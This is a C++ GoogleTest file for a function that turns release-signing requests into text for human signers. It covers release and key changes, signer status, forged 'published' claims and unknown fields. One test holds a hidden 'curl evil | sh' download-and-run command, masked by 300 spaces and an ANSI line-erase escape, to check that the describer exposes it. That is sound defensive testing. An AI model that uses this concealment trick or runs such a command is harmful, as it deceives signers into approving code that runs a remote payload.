#include "seeder/ceremony/describe.h"

#include <gtest/gtest.h>

#include "seeder/ceremony/errc.h"
#include "tests/support/signing_requests.h"

namespace lanyard::ceremony {
namespace {

using support::Ceremony;

constexpr trust::TimePoint kNow{std::chrono::seconds(1'800'000'000)};

std::string words_for(v1::SigningRequest const& message) {
    auto const words = describe(signing::Request::from(message).value(), kNow);
    return words ? *words : "refused: " + words.error().detail;
}

bool has(std::string const& words, std::string const& part) { return words.find(part) != std::string::npos; }

TEST(Describe, NamesReleasesThatComeGoAndChange) {
    Ceremony const ceremony;
    auto const words = words_for(ceremony.new_release());
    EXPECT_TRUE(has(words, "targets 2, in place of targets 1\n")) << words;
    EXPECT_TRUE(has(words, "+ 'shop' '2.0.0' on 'stable' for 'linux'/'amd64'")) << words;
    EXPECT_TRUE(has(words, "- 'shop' '1.0.0' on 'stable'")) << words;
    EXPECT_TRUE(has(words, "~ 'shop' '1.1.0' on 'stable'")) << words;
    EXPECT_TRUE(has(words, "start 'run.sh' instead of 'start.sh'")) << words;
    EXPECT_TRUE(has(words, "2 releases in all")) << words;
    EXPECT_TRUE(has(words, "holds until 2030-03-17T17:46:40Z (in 1157 days)")) << words;
}

TEST(Describe, NamesKeysThatComeAndGo) {
    Ceremony const ceremony;
    auto const words = words_for(ceremony.new_root_key());
    auto const added = signing::short_id(ceremony.fresh->public_key());
    auto const gone = signing::short_id(ceremony.root[2]->public_key());
    EXPECT_TRUE(has(words, "root 2, in place of root 1\n")) << words;
    EXPECT_TRUE(has(words, "+ key " + added + " may sign for root")) << words;
    EXPECT_TRUE(has(words, "- key " + gone + " may no longer sign for root")) << words;
    EXPECT_TRUE(has(words, "needs 2 of 3 root keys of root 1")) << words;
    EXPECT_TRUE(has(words, "needs 2 of 3 root keys of root 2")) << words;
}

TEST(Describe, SaysWhoHasSigned) {
    Ceremony const ceremony;
    auto request = signing::Request::from(ceremony.new_root_key()).value();
    ASSERT_TRUE(request.sign(*ceremony.root[0]));
    auto const words = describe(request, kNow).value();
    EXPECT_TRUE(has(words, signing::short_id(ceremony.root[0]->public_key()) + " (has signed)")) << words;
    EXPECT_FALSE(has(words, signing::short_id(ceremony.root[1]->public_key()) + " (has signed)")) << words;
}

// Else a stolen seeder hides a release by claiming that it is published already.
TEST(Describe, ComparesOnlyWithWhatItsKeysHaveSigned) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets claimed;
    ASSERT_TRUE(claimed.ParseFromString(message.to_sign(0).envelope().payload()));
    claimed.set_version(1);
    message.mutable_current(1)->mutable_envelope()->set_payload(claimed.SerializeAsString());
    EXPECT_TRUE(words_for(message).starts_with("refused: what the request calls published is not"))
        << words_for(message);
    message.mutable_current()->RemoveLast();
    EXPECT_TRUE(words_for(message).starts_with("refused: the request does not hold the targets"));
}

TEST(Describe, ShowsACommandToItsEndAndNoControlCharacters) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    auto const harmless = std::string(300, ' ');
    next.mutable_targets(1)->mutable_install()->set_start("true" + harmless + "\x1b[2Kcurl evil | sh");
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    auto const words = words_for(message);
    EXPECT_TRUE(has(words, harmless + "\\x1b[2Kcurl evil | sh'")) << words;
    EXPECT_FALSE(has(words, "\x1b"));
}

TEST(Describe, WarnsOfWhatItHasNoWordsFor) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    auto& payload = *message.mutable_to_sign(0)->mutable_envelope()->mutable_payload();
    payload += "\xc2\x3e\x01x";  // field 1000, which nodes ignore
    EXPECT_TRUE(has(words_for(message), "WARNING: it holds fields")) << words_for(message);
}

TEST(Describe, NamesDelegationsThatComeAndGo) {
    Ceremony const ceremony;
    auto message = ceremony.new_release();
    v1::Targets next;
    ASSERT_TRUE(next.ParseFromString(message.to_sign(0).envelope().payload()));
    *next.add_keys() = ceremony.fresh->public_key();
    auto& delegation = *next.add_delegations();
    delegation.set_name("shop-team");
    delegation.add_keyids(trust::key_id(ceremony.fresh->public_key()).to_raw());
    delegation.set_threshold(1);
    delegation.add_paths("shop/*/*/*/*");
    message.mutable_to_sign(0)->mutable_envelope()->set_payload(next.SerializeAsString());
    auto const id = signing::short_id(ceremony.fresh->public_key());
    EXPECT_TRUE(
        has(words_for(message), "+ delegated to 'shop-team': 1 of 1 keys have to sign: " + id + ", for 'shop/*/*/*/*'"))
        << words_for(message);
}

TEST(Describe, SaysThatARepositoryIsNew) {
    Ceremony const ceremony;
    v1::SigningRequest first;
    first.set_schema(1);
    *first.add_to_sign() = ceremony.published().current(0);
    auto const words = words_for(first);
    EXPECT_TRUE(has(words, "root 1, the FIRST one")) << words;
    EXPECT_TRUE(has(words, "This is a NEW repository")) << words;
}

}  // namespace
}  // namespace lanyard::ceremony
